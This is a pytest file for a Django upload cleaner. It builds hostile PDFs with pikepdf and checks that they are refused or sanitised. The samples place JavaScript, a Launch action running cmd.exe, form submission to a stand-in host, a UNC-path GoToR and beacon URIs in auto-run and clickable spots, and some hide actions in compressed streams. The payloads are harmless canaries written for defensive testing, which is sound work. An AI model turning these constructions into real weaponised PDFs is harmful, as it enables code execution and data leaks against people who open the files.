"""T3 (PDF part): hostile PDFs built here with pikepdf, each refused or cleaned.

Every action kind is placed where readers run it (a link annotation, a widget's /AA, an
outline item, a page's /AA, the catalog's /OpenAction), once as a dictionary written inline
and once as an indirect object. A cleaned file is opened again and walked: no action but an
in-document GoTo, and no canary string in its bytes, its streams decompressed.
"""

import io
import warnings

import pikepdf
import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile

from weerbaar.core.uploads import clean_upload

Name, Dictionary, Array, String = pikepdf.Name, pikepdf.Dictionary, pikepdf.Array, pikepdf.String
REFUSED = "de PDF bevat scripts of acties; stuur een PDF zonder."
CANARY = b"canary"


def _action(kind: str) -> Dictionary:
    """One action of ``kind``, every value carrying the canary."""
    return {
        "javascript": lambda: Dictionary(S=Name.JavaScript, JS=String("app.alert('canary')")),
        "launch": lambda: Dictionary(
            S=Name.Launch,
            F=String("cmd.exe"),
            Win=Dictionary(F=String("cmd.exe"), P=String("/c echo canary")),
        ),
        "rendition": lambda: Dictionary(
            S=Name.Rendition, OP=0, JS=String("this.canary = app.launchURL('x')")
        ),
        "submitform": lambda: Dictionary(
            S=Name.SubmitForm,
            F=Dictionary(FS=Name.URL, F=String("https://canary.example/collect")),
        ),
        "importdata": lambda: Dictionary(S=Name.ImportData, F=String("C:/canary.fdf")),
        "gotor": lambda: Dictionary(
            S=Name.GoToR,
            F=String("\\\\canary.example\\share\\x.pdf"),
            D=Array([0, Name.Fit]),
        ),
        "uri": lambda: Dictionary(S=Name.URI, URI=String("https://canary.example/beacon.png")),
    }[kind]()


def _page_annotation(document: pikepdf.Pdf, annotation: Dictionary) -> None:
    page = document.pages[0].obj
    page.Annots = document.make_indirect(Array([document.make_indirect(annotation)]))


def _in_link(document, action):
    _page_annotation(
        document,
        Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([10, 10, 90, 30]), A=action),
    )


def _in_widget(document, action):
    widget = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Widget,
        FT=Name.Tx,
        T=String("naam"),
        Rect=Array([10, 40, 190, 60]),
        AA=Dictionary(U=action, Fo=action),
    )
    _page_annotation(document, widget)
    document.Root.AcroForm = Dictionary(Fields=Array([document.pages[0].obj.Annots[0]]))


def _in_outline(document, action):
    item = document.make_indirect(Dictionary(Title=String("Hoofdstuk 1"), A=action))
    outlines = document.make_indirect(
        Dictionary(Type=Name.Outlines, First=item, Last=item, Count=1)
    )
    item.Parent = outlines
    document.Root.Outlines = outlines


def _in_page_aa(document, action):
    document.pages[0].obj.AA = Dictionary(O=action)


def _in_open_action(document, action):
    document.Root.OpenAction = action


PLACES = {
    "link": _in_link,
    "widget_aa": _in_widget,
    "outline": _in_outline,
    "page_aa": _in_page_aa,
    "open_action": _in_open_action,
}
REFUSED_KINDS = ["javascript", "launch", "rendition", "submitform", "importdata", "gotor"]
STRIPPED_KINDS = ["uri"]


def _save(document: pikepdf.Pdf) -> bytes:
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def hostile_pdf(kind: str, place: str, indirect: bool) -> bytes:
    document = pikepdf.new()
    document.add_blank_page()
    action = _action(kind)
    PLACES[place](document, document.make_indirect(action) if indirect else action)
    return _save(document)


def _clean(data: bytes, name: str = "stuk.pdf") -> bytes:
    return clean_upload(SimpleUploadedFile(name, data)).data


def _walk(document: pikepdf.Pdf):
    """Every dictionary and stream of ``document``, inline ones included."""
    seen, stack = set(), [document.trailer]
    while stack:
        obj = stack.pop()
        if not isinstance(obj, pikepdf.Object):
            continue  # numbers, booleans and null come back as Python values
        if obj.is_indirect:
            if obj.objgen in seen:
                continue
            seen.add(obj.objgen)
        if isinstance(obj, Dictionary | pikepdf.Stream):
            yield obj
            stack.extend(obj[key] for key in obj.keys())
        elif isinstance(obj, Array):
            stack.extend(obj)


def _actions(document: pikepdf.Pdf) -> list[str]:
    return [str(d.S) for d in _walk(document) if "/S" in d and ("/JS" in d or _is_action(d))]


def _is_action(d) -> bool:
    return isinstance(d.S, Name) and str(d.S) in {
        "/GoTo", "/GoToR", "/GoToE", "/Launch", "/URI", "/JavaScript", "/SubmitForm",
        "/ImportData", "/Rendition", "/Named", "/Hide", "/ResetForm", "/Sound", "/Movie",
    }  # fmt: skip


def _expanded(data: bytes) -> bytes:
    """The file rewritten with every object outside object streams and every stream
    decoded, so a canary cannot hide in compressed bytes."""
    with (
        pikepdf.open(io.BytesIO(data)) as document,
        warnings.catch_warnings(action="ignore", category=pikepdf.PageCopyWarning),
    ):
        out = io.BytesIO()
        document.save(
            out,
            object_stream_mode=pikepdf.ObjectStreamMode.disable,
            compress_streams=False,
            stream_decode_level=pikepdf.StreamDecodeLevel.all,
        )
    return out.getvalue()


def _assert_clean(data: bytes) -> None:
    assert CANARY not in data.lower()
    assert CANARY not in _expanded(data).lower()
    with pikepdf.open(io.BytesIO(data)) as document:
        assert set(_actions(document)) <= {"/GoTo"}
        for obj in _walk(document):
            if isinstance(obj, pikepdf.Stream):
                assert CANARY not in obj.read_bytes().lower()
            assert "/AA" not in obj and "/JS" not in obj


@pytest.mark.parametrize("indirect", [False, True], ids=["inline", "indirect"])
@pytest.mark.parametrize("place", list(PLACES))
@pytest.mark.parametrize("kind", REFUSED_KINDS)
def test_active_content_is_refused_wherever_it_sits(kind, place, indirect):
    with pytest.raises(ValidationError) as refused:
        _clean(hostile_pdf(kind, place, indirect))
    assert refused.value.messages == [f"“stuk.pdf”: {REFUSED}"]


@pytest.mark.parametrize("indirect", [False, True], ids=["inline", "indirect"])
@pytest.mark.parametrize("place", list(PLACES))
@pytest.mark.parametrize("kind", STRIPPED_KINDS)
def test_web_link_is_stripped_and_the_document_kept(kind, place, indirect):
    data = hostile_pdf(kind, place, indirect)
    assert CANARY in data  # the corpus really carries it
    cleaned = _clean(data)
    _assert_clean(cleaned)
    with pikepdf.open(io.BytesIO(cleaned)) as document:
        assert len(document.pages) == 1


@pytest.mark.parametrize("indirect", [False, True], ids=["inline", "indirect"])
def test_script_chained_after_an_in_document_jump_is_refused(indirect):
    document = pikepdf.new()
    document.add_blank_page()
    script = _action("javascript")
    jump = Dictionary(
        S=Name.GoTo,
        D=Array([document.pages[0].obj, Name.Fit]),
        Next=document.make_indirect(script) if indirect else script,
    )
    _in_link(document, jump)
    with pytest.raises(ValidationError):
        _clean(_save(document))


def test_document_level_javascript_is_refused():
    document = pikepdf.new()
    document.add_blank_page()
    script = document.make_indirect(_action("javascript"))
    tree = Dictionary(Names=Array([String("init"), script]))
    document.Root.Names = Dictionary(JavaScript=tree)
    with pytest.raises(ValidationError):
        _clean(_save(document))


def _xmp(text: str) -> bytes:
    return (
        '<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?>'
        '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF '
        'xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
        '<rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/">'
        f"<dc:creator>{text}</dc:creator></rdf:Description></rdf:RDF></x:xmpmeta>"
        '<?xpacket end="w"?>'
    ).encode()


def metadata_pdf() -> bytes:
    """Canaries where authoring tools leave who made a file, in and out of streams."""
    document = pikepdf.new()
    document.add_blank_page()
    document.add_blank_page()
    document.docinfo["/Author"] = "Canary Info Author"
    document.docinfo["/Producer"] = "Canary Producer"
    catalog_xmp = document.make_stream(_xmp("Canary Catalog XMP"))
    catalog_xmp.Type, catalog_xmp.Subtype = Name.Metadata, Name.XML
    document.Root.Metadata = catalog_xmp
    first, second = document.pages[0].obj, document.pages[1].obj
    page_xmp = document.make_stream(_xmp("Canary Page XMP"))
    page_xmp.Type, page_xmp.Subtype = Name.Metadata, Name.XML
    first.Metadata = page_xmp
    first.PieceInfo = Dictionary(
        Illustrator=Dictionary(
            LastModified=String("D:20240101"),
            Private=Dictionary(Creator=String("Canary PieceInfo")),
        )
    )
    # The stream compressed, so a plain search of the file would miss it.
    second.PieceInfo = Dictionary(
        Canary=Dictionary(Private=document.make_stream(b"canary private data"))
    )
    first.Annots = Array(
        [
            Dictionary(
                Type=Name.Annot,
                Subtype=Name.Text,
                Rect=Array([10, 10, 30, 30]),
                Contents=String("Zie hier."),
                T=String("Canary Annotation Author"),
                M=String("D:20240101120000+01'00'"),
            )
        ]
    )
    out = io.BytesIO()
    document.save(out, compress_streams=True)
    return out.getvalue()


def test_metadata_canaries_do_not_survive():
    data = metadata_pdf()
    assert CANARY in _expanded(data).lower()  # the corpus really carries them
    cleaned = _clean(data)
    _assert_clean(cleaned)
    with pikepdf.open(io.BytesIO(cleaned)) as document:
        note = document.pages[0].obj.Annots[0]
        assert str(note.Contents) == "Zie hier." and "/T" not in note and "/M" not in note
        assert "/PieceInfo" not in document.pages[0].obj and "/Info" not in document.trailer


def table_of_contents_pdf() -> bytes:
    """An ordinary report: outline items and links that jump within the document."""
    document = pikepdf.new()
    for _ in range(3):
        document.add_blank_page()
    pages = [page.obj for page in document.pages]
    items = [
        document.make_indirect(Dictionary(Title=String("Inleiding"), Dest=Array([pages[1], Name.Fit]))),
        document.make_indirect(
            Dictionary(
                Title=String("Bijlage"),
                A=Dictionary(S=Name.GoTo, D=Array([pages[2], Name.XYZ, 0, 800, 0])),
            )
        ),
    ]  # fmt: skip
    outlines = document.make_indirect(
        Dictionary(Type=Name.Outlines, First=items[0], Last=items[1], Count=2)
    )
    items[0].Parent = items[1].Parent = outlines
    items[0].Next, items[1].Prev = items[1], items[0]
    document.Root.Outlines = outlines
    document.Root.PageMode = Name.UseOutlines
    link = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Link,
        Rect=Array([10, 10, 90, 30]),
        Dest=Array([pages[2], Name.Fit]),
    )
    goto = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Link,
        Rect=Array([10, 40, 90, 60]),
        A=document.make_indirect(Dictionary(S=Name.GoTo, D=String("bijlage"))),
    )
    web = Dictionary(
        Type=Name.Annot, Subtype=Name.Link, Rect=Array([10, 70, 90, 90]), A=_action("uri")
    )
    pages[0].Annots = Array([link, goto, web])
    document.Root.Names = Dictionary(
        Dests=Dictionary(Names=Array([String("bijlage"), Array([pages[2], Name.Fit])]))
    )
    return _save(document)


def test_table_of_contents_and_jumps_within_the_document_keep_working():
    cleaned = _clean(table_of_contents_pdf(), "rapport.pdf")
    _assert_clean(cleaned)
    with pikepdf.open(io.BytesIO(cleaned)) as document:
        pages = [page.obj.objgen for page in document.pages]
        first = document.Root.Outlines.First
        assert str(first.Title) == "Inleiding" and first.Dest[0].objgen == pages[1]
        assert first.Next.A.S == Name.GoTo and first.Next.A.D[0].objgen == pages[2]
        link, goto, web = document.pages[0].obj.Annots
        assert link.Dest[0].objgen == pages[2]
        assert goto.A.S == Name.GoTo and str(goto.A.D) == "bijlage"
        assert "/A" not in web
        assert "/Dests" in document.Root.Names


def test_action_inside_a_compressed_object_stream_is_refused():
    document = pikepdf.new()
    document.add_blank_page()
    _in_link(document, _action("javascript"))
    out = io.BytesIO()
    document.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    assert b"/JavaScript" not in out.getvalue()  # hidden from a plain search of the bytes
    with pytest.raises(ValidationError):
        _clean(out.getvalue())


def test_file_attached_to_an_annotation_is_removed():
    document = pikepdf.new()
    document.add_blank_page()
    attached = document.make_stream(b"canary attachment")
    attached.Type = Name.EmbeddedFile
    spec = Dictionary(Type=Name.Filespec, F=String("bijlage.txt"), EF=Dictionary(F=attached))
    _page_annotation(
        document,
        Dictionary(
            Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([0, 0, 20, 20]), FS=spec
        ),
    )
    _assert_clean(_clean(_save(document)))


def test_pdf_with_more_objects_than_can_be_checked_quickly_is_refused(monkeypatch):
    from weerbaar.core import pdf_clean

    monkeypatch.setattr(pdf_clean, "MAX_DICTIONARIES", 50)
    document = pikepdf.new()
    document.add_blank_page()
    document.Root.Filler = Array([Dictionary(N=n) for n in range(60)])
    with pytest.raises(ValidationError) as refused:
        _clean(_save(document))
    assert refused.value.messages == [
        "“stuk.pdf”: deze PDF is te ingewikkeld om te controleren; "
        "druk hem af naar een nieuwe PDF en stuur die."
    ]
